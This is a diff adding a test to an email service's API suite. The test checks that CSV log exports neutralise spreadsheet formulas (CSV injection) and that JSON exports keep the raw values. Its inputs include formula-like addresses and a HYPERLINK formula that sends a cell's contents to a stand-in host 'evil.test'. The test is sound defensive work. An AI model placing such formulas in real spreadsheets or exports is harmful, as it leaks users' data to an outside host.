@@ -790,3 +790,58 @@ def test_bad_logs(app: TestClient, ro: dict[str, str]) -> None:
     for path, status in BAD_LOGS:
         problem(app.get(path, headers=ro), status)
 
+
+
+HOSTILE = ["=1+2@dest.test", "-ann@dest.test", "+bob@dest.test"]
+HOSTILE_HELO = '=HYPERLINK("http://evil.test/?"&A1,"click")'
+
+
+def test_csv_exports_neutralise_formulas_and_json_keeps_them(
+        engine: Engine, app: TestClient, rw: dict[str, str], ro: dict[str, str]) -> None:
+    # Text from outside that a spreadsheet would run (OWASP "CSV Injection"): addresses
+    # from a signup form (= + - are atext, RFC 5322 3.2.3) and the HELO name and envelope
+    # sender of whoever connects to our inbound server.
+    w = World(engine, app, rw)
+    w.send_api("evil", [{"email": r} for r in HOSTILE], subject="Hi", text="Hello.")
+    w.now = utcnow()
+    for n, rcpt in enumerate(HOSTILE):
+        w.deliver(rcpt, UNKNOWN, w.now + timedelta(seconds=n))
+    [rid] = received.store_many(engine, [received.Incoming(
+        raw=bounces.unknown(b"Subject: x\r\n\r\n"), mail_from="-x@evil.test",
+        rcpts=("nobody@" + DOMAIN,), received_at=w.now, peer="192.0.2.7",
+        helo=HOSTILE_HELO)])
+    w.process(rid, w.now)
+    today = w.now.date().isoformat()
+    for path, quoted in [
+        ("/api/v1/errors/export?sort=id&order=asc", {"recipient": HOSTILE}),
+        (f"/api/v1/logs/errors/{today}", {"recipient": HOSTILE}),
+        (f"/api/v1/logs/attempts/{today}", {"recipient": HOSTILE}),
+        (f"/api/v1/logs/bounces/{today}", {"helo": [HOSTILE_HELO],
+                                           "mail_from": ["-x@evil.test"]}),
+    ]:
+        sep = "&" if "?" in path else "?"
+        as_json = app.get(f"{path}{sep}format=json", headers=ro).json()
+        lines = app.get(f"{path}{sep}format=jsonl", headers=ro).text.splitlines()
+        assert [json.loads(line) for line in lines] == as_json, path
+        table = list(csv.DictReader(io.StringIO(
+            app.get(f"{path}{sep}format=csv", headers=ro).text, newline="")))
+        assert len(table) == len(as_json) > 0, path
+        for name, values in quoted.items():
+            exact = [row[name] for row in as_json if row[name]]
+            assert exact == values, (path, name)
+            assert [row[name] for row in table if row[name]] == ["'" + v for v in values]
+        # Every other cell says what the JSON says; numbers (ids, steps, sizes) as numbers.
+        for c, j in zip(table, as_json, strict=True):
+            assert {k: v for k, v in c.items() if k not in quoted} == {
+                k: _as_csv(j[k]) for k in c if k not in quoted}, path
+
+
+def _as_csv(value: Any) -> str:
+    """A JSON value as the CSV writes a cell with nothing to neutralise."""
+    if value is None:
+        return ""
+    if isinstance(value, bool):
+        return "true" if value else "false"
+    if isinstance(value, dict | list):
+        return json.dumps(value, ensure_ascii=False)
+    return str(value)
